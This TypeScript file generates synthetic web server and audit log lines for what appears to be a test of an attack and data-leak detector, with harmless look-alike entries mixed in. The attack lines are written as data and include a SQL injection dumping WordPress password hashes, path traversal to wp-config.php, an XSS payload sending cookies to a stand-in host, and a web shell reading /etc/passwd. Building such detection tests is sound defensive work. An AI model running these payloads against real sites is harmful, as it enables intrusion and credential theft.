import { breachStories } from './breach.ts';
import { accessLine, auditLine, debugLine } from './line.ts';
import type { DemoLine } from './line.ts';
import { atWork, shopNamed } from './shops.ts';
import type { Random } from '../../contracts/seeded-random.ts';

/** Something planted in the day, told apart by the seconds of its lines. */
export interface Story {
  readonly name: string;
  readonly site: string;
  /** The truth: a class that must be found in one of these lines; undefined for a look-alike, which must stay silent. */
  readonly finds: string | undefined;
  readonly lines: readonly DemoLine[];
}

/** Sixteen digits that pass Luhn, with a Visa prefix reserved for tests. */
function testCard(random: Random): string {
  const body = `411111${random.digits(9)}`;
  const sum = [...body].toReversed().reduce((total, c, i) => total + (i % 2 === 0 ? ((Number(c) * 2) % 10) + Math.floor(Number(c) / 5) : Number(c)), 0);
  return `${body}${(10 - (sum % 10)) % 10}`;
}

/** Breaks Luhn by one digit: an order reference that only looks like a card. */
function notACard(random: Random): string {
  const card = testCard(random);
  return `${card.slice(0, -1)}${(Number(card.at(-1)) + 5) % 10}`;
}

function letters(random: Random, count: number): string {
  const alphabet = 'ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz23456789';
  return Array.from({ length: count }, () => random.pick([...alphabet])).join('');
}

/** The clinic's shop: how the breach began, and a leak of its own. */
function clinicAttacks(day: number, random: Random): readonly Story[] {
  const s = shopNamed('praxis-nord');
  const at = (hour: number, minute: number, second = 0): number => day + ((hour * 60 + minute) * 60 + second) * 1000;
  const scan = ['/.env', '/wp-config.php.bak', '/.git/config', '/wp-content/debug.log'].map((target, i) => accessLine(s, at(2, 10, i), { address: '203.0.113.10', target, status: 404, agent: 'curl/8.5.0' }));
  const enumerate = [1, 2, 3].map((n) => accessLine(s, at(2, 20, n), { address: '203.0.113.12', target: `/?author=${n}`, status: 301 }));
  const injection = "/wp-admin/admin-ajax.php?action=slots&day=1%27%20UNION%20SELECT%20user_login,user_pass%20FROM%20wp_users--%20-";
  const prompt = `Summarise: patient ${'anna'}.muster@mail.example, SSN 219-09-${1000 + random.below(8999)}, asks for a refill`;
  return [
    { name: 'scan for secrets in the web root', site: s.site, finds: 'attack.wordpress_probe', lines: scan },
    { name: 'user names walked', site: s.site, finds: 'attack.wordpress_probe', lines: enumerate },
    { name: 'SQL injection through admin-ajax', site: s.site, finds: 'attack.sqli', lines: [accessLine(s, at(2, 41), { address: '203.0.113.13', target: injection, bytes: 18_220 })] },
    ...breachStories(day),
    { name: 'patient data in an AI prompt', site: s.site, finds: 'pii.us_ssn', lines: [auditLine(s, at(10, 2), { category: 'ai', action: 'prompt-sent', ...atWork(s, 'reception'), fields: { destination: { domain: 'api.cloud-ai.example' }, message: prompt } })] },
  ];
}

function shopAttacks(day: number, random: Random): readonly Story[] {
  const g = shopNamed('garten-werk');
  const p = shopNamed('payfox');
  const at = (hour: number, minute: number): number => day + (hour * 60 + minute) * 60_000;
  const aiKey = `sk-${'proj'}-${letters(random, 48)}`;
  const payKey = `sk_${'live'}_${letters(random, 24)}`;
  return [
    { name: 'path traversal to wp-config.php', site: g.site, finds: 'attack.traversal', lines: [accessLine(g, at(5, 30), { address: '203.0.113.30', target: '/wp-content/plugins/gallery/dl.php?file=..%2f..%2f..%2f..%2fwp-config.php', bytes: 3_300 })] },
    { name: 'a database dump fetched from the web root', site: g.site, finds: 'attack.wordpress_probe', lines: [accessLine(g, at(5, 45), { address: '203.0.113.16', target: '/wp-content/uploads/backup-2026.sql.gz', bytes: 48_120_334 })] },
    { name: 'script in a review', site: g.site, finds: 'attack.xss', lines: [accessLine(g, at(6, 12), { address: '203.0.113.31', target: '/product/oak-planter/?review=%3Cscript%3Edocument.location%3D%27//x.example/%27%2Bdocument.cookie%3C/script%3E' })] },
    { name: 'AI key in debug.log', site: g.site, finds: 'secret.', lines: [debugLine(g, at(7, 45), `PHP Warning:  AI request failed, key ${aiKey} rejected in /var/www/html/wp-content/plugins/assistant/client.php on line 77`)] },
    { name: 'card number in a query string', site: p.site, finds: 'pci.pan', lines: [accessLine(p, at(11, 20), { address: '203.0.113.40', target: `/checkout/?cardnumber=${testCard(random)}&step=2` })] },
    { name: 'payment key in debug.log', site: p.site, finds: 'secret.', lines: [debugLine(p, at(12, 1), `Stripe error: invalid request with ${payKey}`)] },
    { name: 'web shell called', site: p.site, finds: 'attack.', lines: [accessLine(p, at(13, 37), { address: '203.0.113.42', target: '/wp-content/uploads/2026/11/shell.php?cmd=id%3Bcat+/etc/passwd' })] },
    { name: 'XML-RPC multicall guessing', site: p.site, finds: 'attack.wordpress_probe', lines: [auditLine(p, at(14, 2), { category: 'authentication', action: 'xmlrpc-multicall', outcome: 'failure', address: '203.0.113.43', fields: { http: { request: { method: 'POST' } }, url: { domain: p.domain, path: '/xmlrpc.php' }, message: 'system.multicall wp.getUsersBlogs 500 calls' } })] },
  ];
}

/** What looks like an attack or a leak to a careless rule. */
function lookAlikes(day: number, random: Random): readonly Story[] {
  const [n, g, p] = [shopNamed('praxis-nord'), shopNamed('garten-werk'), shopNamed('payfox')];
  const at = (hour: number, minute: number): number => day + (hour * 60 + minute) * 60_000;
  return [
    { name: 'an order reference of sixteen digits', site: p.site, finds: undefined, lines: [accessLine(p, at(9, 3), { address: '192.0.2.201', target: `/track/?ref=${notACard(random)}` })] },
    { name: 'a search for a book about unions', site: g.site, finds: undefined, lines: [accessLine(g, at(9, 10), { address: '192.0.2.202', target: '/?s=student+union+select+committee+history' })] },
    { name: 'a parcel number', site: g.site, finds: undefined, lines: [accessLine(g, at(9, 40), { address: '192.0.2.203', target: '/my-account/orders/?tracking=1Z999AA10123456784' })] },
    { name: 'a plugin update', site: n.site, finds: undefined, lines: [auditLine(n, at(8, 0), { category: 'configuration', action: 'plugin-updated', address: '192.0.2.204', user: n.admin, wordpress: { plugin: { slug: 'woocommerce', version: '7.9.1' } } })] },
    { name: 'a form with dots in its path', site: n.site, finds: undefined, lines: [accessLine(n, at(8, 20), { address: '192.0.2.205', target: '/blog/what-next.../?page=2' })] },
    { name: 'a UUID in a query', site: p.site, finds: undefined, lines: [accessLine(p, at(15, 0), { address: '192.0.2.206', target: '/?wc-ajax=checkout&request=3f2504e0-4f89-11d3-9a0c-0305e82c3301' })] },
    { name: 'a customer promoted to subscriber', site: g.site, finds: undefined, lines: [auditLine(g, at(16, 0), { category: 'iam', action: 'user-role-changed', address: '192.0.2.207', user: g.admin, wordpress: { role: { old: 'customer', new: 'subscriber' } } })] },
  ];
}

export function storiesOf(day: number, random: Random): readonly Story[] {
  return [...clinicAttacks(day, random), ...shopAttacks(day, random), ...lookAlikes(day, random)];
}
